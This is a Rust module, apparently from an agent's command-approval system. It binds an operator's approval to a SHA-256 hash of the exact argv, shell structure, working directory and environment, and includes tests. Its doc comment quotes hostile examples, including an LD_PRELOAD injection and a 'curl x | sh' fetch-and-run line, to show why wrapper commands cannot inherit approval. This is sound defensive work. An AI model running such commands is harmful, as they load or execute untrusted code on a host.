//! Binding an operator's approval to the exact command. The hash is
//! SHA-256 over a canonical, length-prefixed encoding of the full argv of
//! every simple command, the cwd and the environment (sorted), so that
//! nothing can be appended, reordered or re-split without changing it.
//!
//! Why the *full* argv, wrappers included, and never a basename: approving
//! `ls` must not approve `env ls`, `sh -c ls`, `busybox ls` or `xargs ls`.
//! Each of those runs `ls` in the end, but the wrapper is a program of its
//! own with its own power — `env` can rewrite the environment (`env
//! LD_PRELOAD=/tmp/x.so ls`), `sh -c` parses a string that can say anything
//! (`sh -c 'ls; curl x | sh'`), `busybox` carries every applet, `xargs` runs
//! its command on input the approver never saw. A basename allowlist ("ls
//! is fine") would let any of them ride on the approval; hashing the exact
//! argv of every command makes each of them a different command that needs
//! its own approval. The canonical text of the whole parse is included too,
//! so the structure (`;`, `|`, `&&`, redirections) is bound as well.

use super::ParsedCommand;
use sha2::{Digest, Sha256};

const DOMAIN: &[u8] = b"exoclaw.exec-approval.v1";

fn put(h: &mut Sha256, bytes: &[u8]) {
    h.update((bytes.len() as u64).to_be_bytes());
    h.update(bytes);
}

fn put_list<'a>(h: &mut Sha256, tag: &[u8], items: impl ExactSizeIterator<Item = &'a str>) {
    put(h, tag);
    h.update((items.len() as u64).to_be_bytes());
    for item in items {
        put(h, item.as_bytes());
    }
}

fn put_env(h: &mut Sha256, env: &[(String, String)]) {
    let mut env: Vec<&(String, String)> = env.iter().collect();
    env.sort();
    put(h, b"env");
    h.update((env.len() as u64).to_be_bytes());
    for (k, v) in env {
        put(h, k.as_bytes());
        put(h, v.as_bytes());
    }
}

/// The approval hash of one argv run directly (no shell) in `cwd` with
/// `env`: hex SHA-256.
pub fn approval_hash(argv: &[String], cwd: &str, env: &[(String, String)]) -> String {
    let mut h = Sha256::new();
    put(&mut h, DOMAIN);
    put(&mut h, b"argv");
    put_list(&mut h, b"command", argv.iter().map(String::as_str));
    put(&mut h, b"cwd");
    put(&mut h, cwd.as_bytes());
    put_env(&mut h, env);
    hex::encode(h.finalize())
}

/// The approval hash of a parsed shell command (see the module doc).
pub(super) fn parsed_hash(parsed: &ParsedCommand, cwd: &str, env: &[(String, String)]) -> String {
    let mut h = Sha256::new();
    put(&mut h, DOMAIN);
    put(&mut h, b"shell");
    put(&mut h, parsed.canonical().as_bytes());
    let commands = parsed.commands();
    h.update((commands.len() as u64).to_be_bytes());
    for c in commands {
        put_list(&mut h, b"command", c.words.iter().map(String::as_str));
    }
    put(&mut h, b"cwd");
    put(&mut h, cwd.as_bytes());
    put_env(&mut h, env);
    hex::encode(h.finalize())
}

#[cfg(test)]
mod tests {
    use super::super::{ShellPolicyContext, check};
    use super::*;

    fn hash(cmd: &str) -> String {
        check(cmd, &ShellPolicyContext::default())
            .unwrap()
            .approval_hash("/ws", &[])
    }

    #[test]
    fn wrappers_never_inherit_an_approval() {
        let ls = hash("ls");
        for wrapped in [
            "env ls",
            "sh -c ls",
            "busybox ls",
            "xargs ls",
            "nice ls",
            "ls; ls",
            "ls | ls",
        ] {
            assert_ne!(hash(wrapped), ls, "{wrapped}");
        }
        // Same command, same binding; blanks and quoting style are canonical.
        assert_eq!(hash("ls  -l"), hash("ls -l"));
        assert_ne!(hash("echo '$HOME'"), hash("echo $HOME"));
    }

    #[test]
    fn cwd_and_env_are_bound_and_encoding_is_unambiguous() {
        let a = ["ls".to_owned(), "-l".to_owned()];
        let env = [("A".to_owned(), "1".to_owned())];
        let h = approval_hash(&a, "/ws", &env);
        assert_ne!(h, approval_hash(&a, "/other", &env));
        assert_ne!(h, approval_hash(&a, "/ws", &[]));
        assert_ne!(
            approval_hash(&["ab".into(), "c".into()], "/", &[]),
            approval_hash(&["a".into(), "bc".into()], "/", &[])
        );
        let env2 = [
            ("B".to_owned(), "2".to_owned()),
            ("A".to_owned(), "1".to_owned()),
        ];
        let env3 = [
            ("A".to_owned(), "1".to_owned()),
            ("B".to_owned(), "2".to_owned()),
        ];
        assert_eq!(approval_hash(&a, "/", &env2), approval_hash(&a, "/", &env3));
        assert_eq!(h.len(), 64);
    }
}
